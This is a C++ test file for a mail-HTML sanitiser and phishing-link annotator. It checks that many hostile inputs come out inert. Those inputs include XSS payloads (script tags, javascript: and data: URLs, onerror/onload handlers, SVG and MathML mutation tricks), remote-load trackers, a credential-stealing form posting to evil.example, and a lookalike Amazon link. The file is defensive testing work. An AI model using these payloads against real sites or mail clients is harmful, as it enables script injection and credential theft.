// The mail sanitiser against hostile HTML: every case must come out without any way to run
// code, load anything or navigate, and FindUnsafeMarkup must agree (it parses the output again,
// as the browser will).
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "kakunin/brands.h"
#include "kakunin/links.h"
#include "kakunin/web.h"

namespace kakunin::web {
namespace {

struct Rendered {
  std::string html;
  std::vector<links::AnalyzedLink> links;
};

Rendered Sanitize(std::string_view html, std::string_view lang = "en") {
  Rendered r;
  r.links = links::Analyze(links::ExtractHtml(html, 1));
  LinkIndex index(r.links, brands::BrandRegistry::Default());
  r.html = SanitizeMailHtml(html, 1, index, lang);
  return r;
}

std::string Lower(std::string s) {
  for (char& c : s) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return s;
}

struct Case {
  const char* name;
  const char* html;
  std::vector<const char*> absent;   // Substrings (compared in lower case) that must not appear.
  std::vector<const char*> present;  // Substrings that must appear.
};

const std::vector<Case> kCases = {
    {"script tag", "<p>hi<script>alert(1)</script></p>", {"<script", "alert(1)"}, {"<p>hi</p>"}},
    {"script in head", "<html><head><script src=https://evil.example/x.js></script></head><body>x</body></html>",
     {"<script", "evil.example"}, {"x"}},
    {"uppercase and broken script", "<SCRIPT>a()</SCRIPT><scr<script>ipt>b()</script>", {"<script", "a()"}, {}},
    {"javascript href", "<a href=\"javascript:alert(1)\">click</a>", {"<a", "href="}, {"click", "javascript:alert(1)"}},
    {"javascript href with tab and entities", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", {"<a", "href="}, {}},
    {"attribute injection", "<a href='https://x.example/\" onmouseover=\"alert(1)'>t</a><p title=\"\" onclick=alert(2)>p</p>",
     {" onmouseover=", "onclick", "<a "}, {"https://x.example/%22%20onmouseover=%22alert(1)"}},
    {"event handlers everywhere", "<body onload=alert(1)><div onclick=x() onfocus=y autofocus tabindex=1>d</div></body>",
     {"onload", "onclick", "onfocus", "autofocus", "tabindex=\"1\""}, {"<div>d</div>"}},
    {"css expression in style attribute", "<div style=\"width: expression(alert(1)); background:url(https://t.example/p)\">s</div>",
     {"style=", "expression", "t.example"}, {"<div>s</div>"}},
    {"style element", "<style>@import url(https://evil.example/a.css); body{background:url(//t.example/b)}</style>ok",
     {"<style", "@import", "evil.example", "t.example"}, {"ok"}},
    {"link stylesheet", "<link rel=stylesheet href=https://evil.example/a.css>ok", {"<link", "evil.example"}, {"ok"}},
    {"base href", "<base href=\"https://evil.example/\"><a href=\"/login\">l</a>", {"<base", "<a "}, {"evil.example/login"}},
    {"meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">ok", {"<meta", "refresh"}, {"ok"}},
    {"svg with script and onload", "<svg onload=alert(1)><script>alert(2)</script><a xlink:href=\"javascript:x\"><text>t</text></a></svg>",
     {"<svg", "onload", "alert", "xlink", "<script"}, {"SVG"}},
    {"svg foreignObject html", "<svg><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>",
     {"<iframe", "evil.example", "foreignobject"}, {}},
    {"math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
     {"<math", "<img", "onerror", "<style"}, {}},
    {"img remote load", "<img src=\"https://tracker.example/open.gif\" alt=\"Logo\" width=1 height=1>",
     {"<img", "src=", "tracker.example"}, {"[image: Logo]"}},
    {"img srcset and picture", "<picture><source srcset=\"https://t.example/a.png\"><img srcset=\"https://t.example/b.png 2x\"></picture>",
     {"srcset", "t.example", "<source", "<picture"}, {"[image]"}},
    {"background attribute", "<table background=\"https://t.example/bg.png\"><tr><td background=x>c</td></tr></table>",
     {"background", "t.example"}, {"<td>c</td>"}},
    {"iframe object embed", "<iframe src=https://e.example/></iframe><object data=https://e.example/o></object><embed src=https://e.example/e>",
     {"<iframe", "<object", "<embed", "e.example"}, {"embedded content"}},
    {"form with password", "<form action=\"https://evil.example/steal\" method=post><input type=password name=p><input type=hidden name=h value=secret><button formaction=\"https://x.example\">Go</button></form>",
     {"<form", "<input", "<button", "formaction", "secret", "x.example"}, {"password field", "evil.example"}},
    {"comment hiding markup", "<!-- <script>alert(1)</script> -->ok<!--[if mso]><img src=x><![endif]-->",
     {"<!--", "<script", "<img"}, {"ok"}},
    {"entity-encoded markup stays text", "&lt;script&gt;alert(1)&lt;/script&gt;", {"<script"}, {"&lt;script&gt;"}},
    {"textarea and title raw text", "<textarea><script>alert(1)</script></textarea><title><img src=x></title>",
     {"<script", "<img", "<textarea", "<title"}, {"&lt;script&gt;"}},
    {"noscript", "<noscript><img src=https://t.example/n.gif></noscript>ok", {"<img", "t.example", "<noscript"}, {"ok"}},
    {"template", "<template><img src=x onerror=alert(1)></template>ok", {"<img", "onerror", "<template"}, {"ok"}},
    {"null bytes and controls", std::string("a\0b<scr\0ipt>c", 13).c_str(), {"<scr"}, {}},
    {"data and vbscript urls", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">d</a><a href=\"vbscript:msgbox\">v</a>",
     {"<a "}, {"data:text/html", "vbscript:msgbox"}},
    {"id and class clobbering", "<div id=verdict class=\"banner banner-genuine\" data-verdict=genuine>fake</div>",
     {"id=", "banner", "data-verdict"}, {"<div>fake</div>"}},
    {"unclosed attribute quote", "<a href=\"https://x.example/>text</a><p>after", {"<a "}, {}},
    {"table spans kept only as numbers", "<table><tr><td colspan=\"2\" rowspan=\"x\">a</td><td colspan=\"2;x\">b</td></tr></table>",
     {"rowspan", "2;x"}, {"colspan=\"2\""}},
    {"deep nesting", nullptr, {}, {"deep"}},
};

TEST(SanitizeMailHtmlTest, HostileHtmlComesOutInert) {
  for (const Case& c : kCases) {
    std::string input;
    if (c.html != nullptr) {
      input = c.name == std::string("null bytes and controls") ? std::string("a\0b<scr\0ipt>c", 13) : c.html;
    } else {
      for (int i = 0; i < 5000; ++i) input += "<div><span>";
      input += "deep";
    }
    const Rendered r = Sanitize(input);
    const std::string lower = Lower(r.html);
    for (const char* a : c.absent) EXPECT_EQ(lower.find(Lower(a)), std::string::npos) << c.name << ": found " << a << " in\n" << r.html;
    for (const char* p : c.present) EXPECT_NE(r.html.find(p), std::string::npos) << c.name << ": missing " << p << " in\n" << r.html;
    auto problem = FindUnsafeMarkup(r.html);
    EXPECT_FALSE(problem.has_value()) << c.name << ": " << problem.value_or("") << "\n" << r.html;
  }
}

TEST(SanitizeMailHtmlTest, LinksBecomeAnnotatedSpansWithTheirRealDestination) {
  const Rendered r = Sanitize(
      "<p><a href=\"http://amazon.co.jp.account-verify.example/signin\">https://www.amazon.co.jp/ap/signin</a> "
      "<a href=\"https://www.amazon.co.jp/gp/css/order-history\">orders</a></p>");
  EXPECT_EQ(r.html.find("<a"), std::string::npos);
  // The deceptive one is marked and says where it goes, in the pop-up and the title.
  EXPECT_NE(r.html.find("class=\"link link-deceptive\" tabindex=\"0\""), std::string::npos) << r.html;
  EXPECT_NE(r.html.find("data-dest=\"amazon.co.jp.account-verify.example\""), std::string::npos);
  EXPECT_NE(r.html.find("data-site=\"account-verify.example\""), std::string::npos);
  EXPECT_NE(r.html.find("role=\"tooltip\""), std::string::npos);
  EXPECT_NE(r.html.find("title=\"Really goes to: amazon.co.jp.account-verify.example"), std::string::npos);
  // The brand's own site is recognised from the registry.
  EXPECT_NE(r.html.find("class=\"link link-brand\""), std::string::npos) << r.html;
  EXPECT_NE(r.html.find("Amazon's own site") == std::string::npos ? r.html.find("Amazon&#39;s own site") : 0,
            std::string::npos);
  EXPECT_FALSE(FindUnsafeMarkup(r.html).has_value());
}

TEST(SanitizeMailHtmlTest, JapaneseAnnotations) {
  const Rendered r = Sanitize("<a href=\"http://amazon.co.jp.account-verify.example/\">amazon.co.jp</a>", "ja");
  EXPECT_NE(r.html.find("実際の行き先"), std::string::npos) << r.html;
  EXPECT_NE(r.html.find("リンクの表示は amazon.co.jp ですが"), std::string::npos) << r.html;
}

TEST(RenderMailTextTest, EscapesTextAndAnnotatesUrls) {
  const std::string text = "Hello <b>&amp;</b>\nGo to http://amazon.co.jp.account-verify.example/x?a=1&b=\"2\" now";
  auto found = links::Analyze(links::ExtractText(text, 0));
  LinkIndex index(found, brands::BrandRegistry::Default());
  const std::string html = RenderMailText(text, 0, index, "en");
  EXPECT_NE(html.find("Hello &lt;b&gt;&amp;amp;&lt;/b&gt;"), std::string::npos) << html;
  EXPECT_NE(html.find("data-dest=\"amazon.co.jp.account-verify.example\""), std::string::npos) << html;
  EXPECT_EQ(html.find("<b>"), std::string::npos);
  EXPECT_FALSE(FindUnsafeMarkup(html).has_value());
}

TEST(RenderMailTextTest, LongTextIsCut) {
  const std::string text(kMaxTextBodyBytes + 10, 'a');
  std::vector<links::AnalyzedLink> none;
  LinkIndex index(none, brands::BrandRegistry::Default());
  const std::string html = RenderMailText(text, 0, index, "en");
  EXPECT_LT(html.size(), kMaxTextBodyBytes + 400);
  EXPECT_NE(html.find("not shown"), std::string::npos);
}

TEST(FindUnsafeMarkupTest, CatchesWhatTheSanitiserMustNeverWrite) {
  const char* kUnsafe[] = {"<a href=\"https://x\">x</a>", "<img src=x>", "<script></script>", "<div style=\"color:red\">x</div>",
                           "<span onclick=\"x\">x</span>", "<div id=\"verdict\">x</div>", "<svg></svg>", "<form></form>",
                           "<!-- c -->", "<span class=\"a\" tabindex=\"5\">x</span>",
                           "<table><tr><td colspan=\"x\">c</td></tr></table>"};
  for (const char* html : kUnsafe) EXPECT_TRUE(FindUnsafeMarkup(html).has_value()) << html;
  EXPECT_FALSE(FindUnsafeMarkup("<p>ok <span class=\"link link-plain\" tabindex=\"0\" title=\"t\">x</span></p>").has_value());
}

TEST(EscapeHtmlTest, EscapesMarkupQuotesAndControls) {
  EXPECT_EQ(EscapeHtml("<a href=\"x\" title='y'>&</a>"), "&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;");
  EXPECT_EQ(EscapeHtml(std::string("a\0b\x1b", 4)), "a\xEF\xBF\xBD" "b\xEF\xBF\xBD");
  EXPECT_EQ(EscapeHtml("日本語\n\t"), "日本語\n\t");
}

}  // namespace
}  // namespace kakunin::web
